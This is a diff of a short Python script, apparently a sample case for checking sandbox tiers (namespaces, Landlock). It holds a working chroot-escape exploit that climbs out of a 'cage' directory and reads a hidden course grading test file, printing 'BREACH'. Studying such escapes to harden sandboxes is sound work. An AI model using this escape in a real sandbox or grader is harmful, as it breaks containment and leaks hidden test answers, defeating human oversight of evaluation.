@@ -6,9 +6,14 @@ tiers: namespaces landlock
 
 import os
 
-os.mkdir("cage")
-os.chroot("cage")
-for _ in range(64):
-    os.chdir("..")
-os.chroot(".")
-print("BREACH", open("@COURSE@/tests/hidden/correlation/test_corr2d.py").read()[:80])
+
+def attack():
+    os.mkdir("cage")
+    os.chroot("cage")
+    for _ in range(64):
+        os.chdir("..")
+    os.chroot(".")
+    print("BREACH", open("@COURSE@/tests/hidden/correlation/test_corr2d.py").read()[:80])
+
+
+attack()
